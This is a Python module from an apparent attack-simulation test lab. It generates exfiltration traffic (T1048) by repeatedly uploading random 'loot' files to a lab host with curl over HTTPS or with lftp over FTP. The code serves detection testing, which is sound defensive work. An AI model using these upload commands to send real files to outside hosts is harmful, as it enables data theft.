"""Files sent to a host outside (T1048): by HTTPS, by FTP."""

from collections.abc import Callable
from pathlib import Path

from tests.lab.attacks.stage import Stage
from tests.lab.spec import Host
from tests.lab.threats import Exfiltration


def _curl(server: Host, loot: Path, _name: str) -> list[str]:
    return ["curl", "-s", "-k", "-m", "60", "-T", str(loot), f"https://{server.fqdn}/upload"]


def _lftp(server: Host, loot: Path, name: str) -> list[str]:
    script = f"set net:timeout 9; set net:max-retries 1; put -O in {loot} -o {name}; bye"
    return ["lftp", "-e", script, server.addr]


TOOLS: dict[str, Callable[[Host, Path, str], list[str]]] = {"curl": _curl, "lftp": _lftp}


def run(stage: Stage, attack: Exfiltration) -> str:
    """Send the files one by one, each in a connection of its own."""
    rng, server = stage.rng(attack), stage.services.network.host(attack.targets[0])
    loot = stage.services.work / "loot.bin"
    sent, wait = 0, 0.0
    while sent < attack.count and stage.pause(wait):
        loot.write_bytes(rng.randbytes(rng.randint(*attack.size_bytes)))
        words = TOOLS[attack.tool](server, loot, f"part-{sent}")
        stage.run(attack, words, min(70.0, stage.left_s()))
        sent += 1
        wait = attack.period_s * rng.uniform(0.5, 1.5)
    return f"{sent} files"
